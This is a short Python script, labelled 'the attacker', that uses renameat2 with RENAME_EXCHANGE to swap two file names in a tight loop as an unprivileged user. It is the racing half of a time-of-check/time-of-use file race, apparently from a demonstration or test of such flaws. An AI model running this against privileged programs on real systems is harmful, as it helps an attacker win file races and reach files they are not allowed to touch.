"""The attacker: swaps two names without a pause, as a plain user, until it is killed.

    flip.py NAME OTHER
"""

import ctypes
import os
import sys

AT_FDCWD = -100
RENAME_EXCHANGE = 2
libc = ctypes.CDLL(None, use_errno=True)
one, other = (os.fsencode(name) for name in sys.argv[1:3])


def flip():
    if libc.renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) != 0:
        raise OSError(ctypes.get_errno(), "renameat2")


flip()
print("flips", flush=True)
while True:
    flip()
